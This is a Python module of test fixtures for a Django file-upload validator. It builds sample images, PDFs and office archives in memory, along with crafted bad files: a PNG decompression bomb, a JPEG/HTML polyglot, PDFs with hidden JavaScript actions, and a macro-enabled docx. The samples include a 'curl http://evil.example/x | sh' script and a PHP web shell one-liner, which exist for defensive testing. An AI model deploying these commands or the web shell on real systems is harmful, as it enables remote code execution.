"""Real files for the tests, built in memory: Pillow images, hand-assembled PDFs and office ZIPs,
plus crafted bad files (bombs, disguised scripts, polyglots, active PDFs)."""

import io
import struct
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import ExifTags, Image, PngImagePlugin

# Piazza del Duomo, Milano.
GPS_LAT, GPS_LON = 45.464211, 9.191383


def upload(name: str, data: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    """The client's content type is deliberately arbitrary: the checks must ignore it."""
    return SimpleUploadedFile(name, data, content_type=content_type)


def _dms(value: float) -> tuple[float, float, float]:
    value = abs(value)
    degrees = int(value)
    minutes = int((value - degrees) * 60)
    seconds = round((value - degrees - minutes / 60) * 3600, 4)
    return float(degrees), float(minutes), seconds


def jpeg(size=(800, 600), *, gps: tuple[float, float] | None = None, orientation: int | None = None) -> bytes:
    """A JPEG with camera EXIF (make, optional GPS and orientation), a comment and an ICC profile."""
    img = Image.new("RGB", size, (200, 100, 50))
    img.paste((20, 40, 200), (0, 0, size[0] // 2, size[1] // 2))
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "MonitoraCam"
    exif[ExifTags.Base.Model] = "SerialNo-123456"
    if orientation:
        exif[ExifTags.Base.Orientation] = orientation
    if gps:
        lat, lon = gps
        exif[ExifTags.IFD.GPSInfo] = {
            ExifTags.GPS.GPSLatitudeRef: "N" if lat >= 0 else "S",
            ExifTags.GPS.GPSLatitude: _dms(lat),
            ExifTags.GPS.GPSLongitudeRef: "E" if lon >= 0 else "W",
            ExifTags.GPS.GPSLongitude: _dms(lon),
        }
    buffer = io.BytesIO()
    img.save(buffer, "JPEG", exif=exif, comment=b"secret-comment", icc_profile=b"FAKEICCPROFILE" * 8)
    return buffer.getvalue()


def png(size=(640, 480), *, alpha: bool = False) -> bytes:
    img = Image.new("RGBA" if alpha else "RGB", size, (10, 200, 30, 128) if alpha else (10, 200, 30))
    buffer = io.BytesIO()
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Mario Rossi, via Roma 1")
    img.save(buffer, "PNG", pnginfo=info)
    return buffer.getvalue()


def gif(size=(120, 80)) -> bytes:
    buffer = io.BytesIO()
    Image.new("P", size, 3).save(buffer, "GIF")
    return buffer.getvalue()


def webp(size=(300, 200)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (1, 2, 3)).save(buffer, "WEBP")
    return buffer.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png_bomb(width: int = 50_000, height: int = 50_000) -> bytes:
    """A well-formed PNG header declaring 2.5 gigapixels, in a few hundred bytes."""
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


SHELL_SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
PHP_SCRIPT = b"<?php system($_GET['c']); ?>\n"
HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>"
)
# JPEG magic bytes followed by HTML: passes a naive magic-number check, is no image at all.
JPEG_HTML_POLYGLOT = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + HTML_PAGE * 20


def _pdf(objects: list[bytes], *, root: int = 1) -> bytes:
    """Assemble a classic PDF with a correct cross-reference table."""
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root {root} 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return out


_PAGES = [
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
]


def pdf() -> bytes:
    return _pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *_PAGES])


def pdf_with_javascript(*, escaped: bool = False) -> bytes:
    name = b"/J#61vaScript" if escaped else b"/JavaScript"
    action = b"<< /Type /Action /S " + name + b" /JS (app.alert\\(1\\)) >>"
    return _pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", *_PAGES, action])


def pdf_with_hidden_javascript() -> bytes:
    """The JavaScript action sits in a compressed object stream (PDF 1.5) with an xref stream,
    so its names never appear in the raw bytes: only a real parser finds it."""
    header = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    plain = [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", *_PAGES]
    body, offsets = b"", []
    for number, obj in enumerate(plain, 1):
        offsets.append(len(header) + len(body))
        body += f"{number} 0 obj\n".encode() + obj + b"\nendobj\n"
    hidden = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
    prefix = b"4 0 "
    packed = zlib.compress(prefix + hidden)
    objstm_offset = len(header) + len(body)
    body += (
        f"5 0 obj\n<< /Type /ObjStm /N 1 /First {len(prefix)} /Filter /FlateDecode /Length {len(packed)} >>\n"
        "stream\n"
    ).encode()
    body += packed + b"\nendstream\nendobj\n"
    xref_offset = len(header) + len(body)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offset, 0) for offset in offsets]
    rows += [struct.pack(">BIH", 2, 5, 0), struct.pack(">BIH", 1, objstm_offset, 0)]
    rows.append(struct.pack(">BIH", 1, xref_offset, 0))
    data = b"".join(rows)
    body += (
        f"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length {len(data)} >>\nstream\n"
    ).encode()
    body += data + b"\nendstream\nendobj\n"
    return header + body + f"startxref\n{xref_offset}\n%%EOF\n".encode()


def _zip(entries: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in entries:
            compress = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(name, data, compress_type=compress)
    return buffer.getvalue()


def _content_types(main: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
    ).encode()


def docx(*, macro: bool = False) -> bytes:
    main = (
        "application/vnd.ms-word.document.macroEnabled.main+xml"
        if macro
        else "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    )
    entries = [
        ("[Content_Types].xml", _content_types(main)),
        ("_rels/.rels", b"<Relationships/>"),
        ("word/document.xml", b"<w:document><w:body><w:p>Relazione</w:p></w:body></w:document>"),
    ]
    if macro:
        entries.append(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro"))
    return _zip(entries)


def xlsx() -> bytes:
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return _zip(
        [
            ("[Content_Types].xml", _content_types(main)),
            ("_rels/.rels", b"<Relationships/>"),
            ("xl/workbook.xml", b"<workbook/>"),
        ]
    )


def odf(kind: str = "text") -> bytes:
    return _zip(
        [
            ("mimetype", f"application/vnd.oasis.opendocument.{kind}".encode()),
            ("content.xml", b"<office:document-content/>"),
            ("META-INF/manifest.xml", b"<manifest/>"),
        ]
    )


def zip_with_many_entries(count: int = 5_001) -> bytes:
    return _zip([(f"f{i}.txt", b"") for i in range(count)])


CSV_TEXT = "codice;titolo;importo\n1MISE123;Scuola «Dante»;1.234,56\n2;Ponte;99\n".encode()
